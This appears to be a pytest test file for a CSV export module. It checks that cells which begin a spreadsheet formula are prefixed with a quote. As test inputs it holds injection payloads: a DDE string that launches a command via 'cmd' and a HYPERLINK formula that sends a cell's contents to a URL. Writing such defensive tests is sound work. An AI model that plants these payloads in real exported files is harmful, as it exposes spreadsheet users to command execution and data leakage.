"""A name from outside was a formula that a spreadsheet ran when it opened an exported table."""

import csv
from io import StringIO
from pathlib import Path

import pytest

from cofund.csv_text import csv_text
from cofund.report.table_files import write_tables
from cofund.study.result import ResultTable

SCRIPT = '=HYPERLINK("http://127.0.0.1/?"&B2,"pay here")'
STARTS = [
    "=1",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t1",
    "\r1",
    "\n1",
    "  =1",
    "\uff1d1",
    "\uff0b1",
    SCRIPT,
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize("text", STARTS)
def test_a_text_that_begins_a_formula_is_quoted_away(text: str) -> None:
    ((cell,),) = read(csv_text([text], []))
    assert cell == "'" + text.replace("\r", "\n")
    assert read(csv_text(["name"], [[text]]))[1] == [cell]


@pytest.mark.parametrize("separator", [";", "\t", "\n", "|"])
def test_another_separator_inside_a_text_begins_no_formula(separator: str) -> None:
    cells = read(csv_text(["name"], [[f"quay{separator}=1+1"]]))[1][0].split(separator)
    assert cells == ["quay", "'=1+1"]


@pytest.mark.parametrize("value", ["-5", "+5", "-0.25", "154.243646", "a - b", "x=1", "0x2b", "e-mail@host", "", "'"])
def test_numbers_and_other_texts_stay_as_they_are(value: str) -> None:
    assert read(csv_text(["name", "next"], [[value, "x"]]))[1] == [value, "x"]


def test_numbers_nothing_and_flags_have_one_form() -> None:
    assert csv_text(["a", "b", "c", "d"], [[-7, None, True, 2.5]]) == "a,b,c,d\n-7,,true,2.5\n"


def test_every_writer_of_a_table_is_this_one(tmp_path: Path) -> None:
    (path,) = write_tables({"owners": [{"id": SCRIPT, "paid": -7}]}, tmp_path, "csv")
    assert read(path.read_text())[1] == [f"'{SCRIPT}", "-7"]
    assert read(ResultTable("t", "", ("id", "x"), ((SCRIPT, -1.5),)).csv())[1] == [f"'{SCRIPT}", "-1.500000"]
    code = {path: path.read_text() for path in (Path(__file__).parents[2] / "src" / "cofund").rglob("*.py")}
    assert [path.name for path, text in code.items() if "csv.writer(" in text or "csv.DictWriter(" in text] == [
        "csv_text.py"
    ]
